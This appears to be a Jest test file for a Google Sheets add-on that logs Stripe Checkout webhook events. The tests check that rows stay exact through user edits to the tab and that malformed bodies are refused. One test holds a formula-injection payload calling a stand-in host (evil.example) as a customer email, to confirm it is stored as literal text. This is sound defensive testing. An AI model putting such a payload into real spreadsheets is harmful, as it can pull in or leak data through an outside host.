/**
 * Exactly once whatever the user does to the Reconciliation tab between deliveries: dist/Code.js in
 * the local runtime, the tab edited as the Sheets UI edits it (test/bundle/user-edits.ts).
 */
import { FakeStripeApi, type StripeEvent } from '@stripe-utm-sheets/tools/fake-stripe';
import { LocalAddOn as AddOn } from '@stripe-utm-sheets/tools/local-add-on';
import {
  columnOf,
  deleteColumn,
  deleteHeaderRow,
  fillGrid,
  formatAsPlainText,
  insertColumn,
  insertRowAbove,
  renameHeader,
  sortBy,
} from './user-edits';

const NOW = Math.floor(Date.UTC(2026, 10, 20, 12) / 1000);

function addOn(): AddOn {
  const app = new AddOn(new FakeStripeApi({ now: () => NOW }));
  app.setUp();
  return app;
}

const tab = (app: AddOn) => app.workbook.sheet('Reconciliation');

/** Every cell of the tab that holds something, for "nothing was written". */
function snapshot(app: AddOn): unknown {
  return JSON.stringify(tab(app).values());
}

function logCount(app: AddOn, reason: RegExp): number {
  const row = app.rows('Webhook log').find((entry) => reason.test(String(entry.reason)));
  return row === undefined ? 0 : Number(row.count);
}

describe('Plain text cells', () => {
  it('a session_id column formatted as Plain text still gets one row per session, without apostrophes', () => {
    const app = addOn();
    formatAsPlainText(tab(app), [columnOf(tab(app), 'session_id')]);
    const { session, events } = app.stripe.scenario.paid({ clientReferenceId: 'nl-0001' });
    for (let i = 0; i < 5; i++) expect(app.deliver(events[0]!)).toMatchObject({ ok: true });
    expect(app.rows()).toEqual([expect.objectContaining({ session_id: session.id, client_reference_id: 'nl-0001' })]);
  });

  it('a whole tab in Plain text keeps every value exactly, and later events still update the row', () => {
    const app = addOn();
    formatAsPlainText(tab(app));
    const { session, events } = app.stripe.scenario.asyncPayment({
      outcome: 'succeeded',
      clientReferenceId: 'fb-0002',
      email: 'ana@example.com',
    });
    expect(app.deliver(events[0]!)).toMatchObject({ ok: true, result: 'inserted' });
    expect(app.deliver(events[1]!)).toMatchObject({ ok: true, result: 'updated' });
    for (const event of [events[0]!, events[1]!, events[0]!]) expect(app.deliver(event)).toMatchObject({ ok: true, result: 'unchanged' });
    expect(app.rows()).toEqual([
      expect.objectContaining({
        session_id: session.id,
        client_reference_id: 'fb-0002',
        customer_email: 'ana@example.com',
        payment_status: 'paid',
        last_event: events[1]!.id,
      }),
    ]);
    expect(app.formulas()).toEqual([]);
  });

  it('reads back a row written before its column became Plain text, apostrophe and all', () => {
    const app = addOn();
    const { session, events } = app.stripe.scenario.asyncPayment({ outcome: 'succeeded' });
    app.deliver(events[0]!);
    // A person (or an old version) typed the id with an apostrophe into a Plain text cell.
    const column = columnOf(tab(app), 'session_id');
    tab(app).cellForWrite(2, column).numberFormat = '@';
    app.workbook.writeInput(tab(app), 2, column, `'${session.id}`);
    expect(app.deliver(events[1]!)).toMatchObject({ ok: true, result: 'updated' });
    expect(app.rows()).toHaveLength(1);
  });

  it('writes payload text literally into Plain text cells and into ordinary cells alike', () => {
    const app = addOn();
    formatAsPlainText(tab(app), [columnOf(tab(app), 'customer_email')]);
    const hostile = '=IMPORTXML("https://evil.example","//a")';
    const { events } = app.stripe.scenario.paid({ email: hostile, clientReferenceId: '00123' });
    app.deliver(events[0]!);
    expect(app.rows()[0]).toMatchObject({ customer_email: hostile, client_reference_id: '00123' });
    expect(app.formulas()).toEqual([]);
  });
});

describe('headers as people write them', () => {
  it.each(['Session ID', 'Session_ID', ' session id ', 'SESSION-ID'])('session_id renamed to %j: the retry finds its row', (renamed) => {
    const app = addOn();
    const { events } = app.stripe.scenario.asyncPayment({ outcome: 'succeeded' });
    app.deliver(events[0]!);
    const width = tab(app).lastColumn();
    renameHeader(app.workbook, tab(app), 'session_id', renamed);
    expect(app.deliver(events[0]!)).toMatchObject({ ok: true, result: 'unchanged' });
    expect(app.deliver(events[1]!)).toMatchObject({ ok: true, result: 'updated' });
    expect(tab(app).lastColumn()).toBe(width);
    expect(tab(app).lastRow()).toBe(2);
  });

  it('other headers re-cased and spaced are still ours: no new column appears', () => {
    const app = addOn();
    const { events } = app.stripe.scenario.asyncPayment({ outcome: 'succeeded' });
    app.deliver(events[0]!);
    const width = tab(app).lastColumn();
    renameHeader(app.workbook, tab(app), 'payment_status', 'Payment Status');
    renameHeader(app.workbook, tab(app), 'last_event', 'Last event');
    expect(app.deliver(events[1]!)).toMatchObject({ ok: true, result: 'updated' });
    expect(tab(app).lastColumn()).toBe(width);
    expect(tab(app).values()[1]?.[columnOf(tab(app), 'Payment Status') - 1]).toBe('paid');
  });

  it('a header renamed past recognition is added again at the end, and the row is still found', () => {
    const app = addOn();
    const { session, events } = app.stripe.scenario.asyncPayment({ outcome: 'succeeded', email: 'ana@example.com' });
    app.deliver(events[0]!);
    renameHeader(app.workbook, tab(app), 'customer_email', 'Buyer');
    expect(app.deliver(events[1]!)).toMatchObject({ ok: true, result: 'updated' });
    expect(app.rows()).toEqual([
      expect.objectContaining({ session_id: session.id, Buyer: 'ana@example.com', customer_email: 'ana@example.com' }),
    ]);
  });
});

describe('when the tab cannot be read safely, nothing is written and Stripe is asked to retry', () => {
  const cases: Array<[string, (app: AddOn) => void]> = [
    [
      'the header row was deleted',
      (app) => {
        deleteHeaderRow(app.workbook, tab(app));
      },
    ],
    [
      'a row was inserted above the header row',
      (app) => {
        insertRowAbove(tab(app));
      },
    ],
    [
      'session_id was renamed past recognition',
      (app) => {
        renameHeader(app.workbook, tab(app), 'session_id', 'Checkout');
      },
    ],
    [
      'two columns are headed session_id',
      (app) => {
        insertColumn(app.workbook, tab(app), 1, 'Session ID');
      },
    ],
  ];

  it.each(cases)('%s', (_, edit) => {
    const app = addOn();
    const first = app.stripe.scenario.paid();
    const second = app.stripe.scenario.paid();
    app.deliver(first.events[0]!);
    edit(app);
    const before = snapshot(app);
    for (const event of [first.events[0]!, second.events[0]!]) {
      const answer = app.deliver(event) as { ok: boolean; retry?: boolean; error?: string };
      expect(answer).toMatchObject({ ok: false, retry: true });
      expect(answer.error).toMatch(/Reconciliation/);
    }
    expect(snapshot(app)).toBe(before);
    expect(logCount(app, /tab/)).toBe(2);
  });

  it('records again once the header row is back', () => {
    const app = addOn();
    const { events } = app.stripe.scenario.paid();
    insertRowAbove(tab(app));
    expect(app.deliver(events[0]!)).toMatchObject({ ok: false, retry: true });
    tab(app).deleteRows(1, 1);
    expect(app.deliver(events[0]!)).toMatchObject({ ok: true, result: 'inserted' });
    expect(app.rows()).toHaveLength(1);
  });
});

describe('the grid', () => {
  it('a tab whose every column is used still records: columns are added before writing past the edge', () => {
    const app = addOn();
    const { session, events } = app.stripe.scenario.asyncPayment({ outcome: 'succeeded' });
    app.deliver(events[0]!);
    renameHeader(app.workbook, tab(app), 'customer_email', 'Buyer');
    fillGrid(app.workbook, tab(app));
    expect(tab(app).lastColumn()).toBe(tab(app).maxColumns);
    expect(app.deliver(events[1]!)).toMatchObject({ ok: true, result: 'updated' });
    expect(app.rows()).toEqual([expect.objectContaining({ session_id: session.id, payment_status: 'paid' })]);
    expect(tab(app).maxColumns).toBeGreaterThan(26);
  });

  it('a new session goes below the last row even when the tab is full to its last row', () => {
    const app = addOn();
    const sheet = tab(app);
    const { events } = app.stripe.scenario.paid();
    // The user's own column has something in the grid's very last row.
    insertColumn(app.workbook, sheet, sheet.lastColumn() + 1, 'notes');
    app.workbook.writeInput(sheet, sheet.maxRows, sheet.lastColumn(), 'end');
    expect(app.deliver(events[0]!)).toMatchObject({ ok: true, result: 'inserted' });
    expect(app.rows()).toHaveLength(2);
  });
});

describe('sorting, inserting and deleting between deliveries', () => {
  it('updates the right row after a sort, a column insert and a column delete', () => {
    const app = addOn();
    const sessions = Array.from({ length: 4 }, (_, i) =>
      app.stripe.scenario.asyncPayment({ outcome: i % 2 === 0 ? 'succeeded' : 'failed' }),
    );
    for (const { events } of sessions) app.deliver(events[0]!);
    sortBy(tab(app), columnOf(tab(app), 'session_id'), true);
    insertColumn(app.workbook, tab(app), 2, 'my notes');
    insertColumn(app.workbook, tab(app), 5, 'owner');
    deleteColumn(app.workbook, tab(app), columnOf(tab(app), 'my notes'));
    for (const { events } of sessions) expect(app.deliver(events[1]!)).toMatchObject({ ok: true, result: 'updated' });
    const byId = new Map(app.rows().map((row) => [row.session_id, row]));
    expect(byId.size).toBe(4);
    sessions.forEach(({ session, events }, i) => {
      expect(byId.get(session.id)).toMatchObject({ payment_status: i % 2 === 0 ? 'paid' : 'failed', last_event: events[1]!.id, owner: '' });
    });
  });
});

describe('bodies no real Checkout Session has', () => {
  const post = (app: AddOn, event: StripeEvent, patch: Record<string, unknown>, envelope: Record<string, unknown> = {}) =>
    app.deliver({ ...event, ...envelope, data: { object: { ...(event.data.object as object), ...patch } } }) as {
      ok: boolean;
      retry?: boolean;
      error?: string;
    };

  it('an array nested 5,000 deep is refused as not an event, and counted', () => {
    const app = addOn();
    const { events } = app.stripe.scenario.paid();
    const deep = '['.repeat(5000) + ']'.repeat(5000);
    const body = JSON.stringify(events[0]!).replace('"amount_total":', `"amount_total":${deep},"was":`);
    const response = app.postRaw(body);
    const answer = JSON.parse(response.body) as { ok: boolean; retry?: boolean; error: string };
    expect(answer.ok).toBe(false);
    expect(answer.retry).toBeUndefined();
    expect(answer.error).toMatch(/nested/);
    expect(app.rows()).toEqual([]);
    expect(logCount(app, /not a Stripe event/)).toBe(1);
  });

  it('a negative amount_total is refused with a clear error', () => {
    const app = addOn();
    const { events } = app.stripe.scenario.paid();
    expect(post(app, events[0]!, { amount_total: -1999 })).toMatchObject({
      ok: false,
      error: expect.stringMatching(/amount_total.*negative/),
    });
    expect(app.rows()).toEqual([]);
  });

  it('a session or event created in the year 2200 is refused with a clear error', () => {
    const app = addOn();
    const { events } = app.stripe.scenario.paid();
    const future = Math.floor(Date.UTC(2200, 0, 1) / 1000);
    expect(post(app, events[0]!, { created: future })).toMatchObject({ ok: false, error: expect.stringMatching(/created.*future/) });
    expect(post(app, events[0]!, {}, { created: future })).toMatchObject({ ok: false, error: expect.stringMatching(/created.*future/) });
    expect(app.rows()).toEqual([]);
    expect(logCount(app, /not a Stripe event/)).toBe(2);
  });
});

describe('every failure says whether a retry could succeed, and is counted', () => {
  it('a busy lock: retry, and nothing written', () => {
    const app = addOn();
    const { events } = app.stripe.scenario.paid();
    app.locks.hold('script', 'another-execution');
    expect(app.deliver(events[0]!)).toMatchObject({ ok: false, retry: true, error: expect.stringMatching(/Busy/) });
    app.locks.release('script', 'another-execution');
    expect(app.rows()).toEqual([]);
  });

  it('an internal error: retry, counted, still JSON', () => {
    const app = addOn();
    const { events } = app.stripe.scenario.paid();
    // A user's protected range or Google's own outage looks like this to the script.
    const tab = app.workbook.sheet('Reconciliation');
    const original = tab.lastRow.bind(tab);
    let broken = true;
    tab.lastRow = () => {
      if (broken) throw new Error('Service Spreadsheets failed while accessing document');
      return original();
    };
    const answer = app.deliver(events[0]!) as { ok: boolean; retry?: boolean; error?: string };
    broken = false;
    expect(answer).toMatchObject({ ok: false, retry: true, error: expect.stringMatching(/Internal error/) });
    expect(logCount(app, /internal error/)).toBe(1);
    expect(app.deliver(events[0]!)).toMatchObject({ ok: true, result: 'inserted' });
  });

  it('refusals no retry can change carry no retry flag; a wrong token, which a person fixes, asks for one', () => {
    const app = addOn();
    const { events } = app.stripe.scenario.paid();
    const notJson = JSON.parse(app.postRaw('not json').body) as Record<string, unknown>;
    expect(notJson).toMatchObject({ ok: false });
    expect(notJson).not.toHaveProperty('retry');
    expect(app.deliver(events[0]!, 'x'.repeat(64))).toMatchObject({ ok: false, retry: true });
  });
});
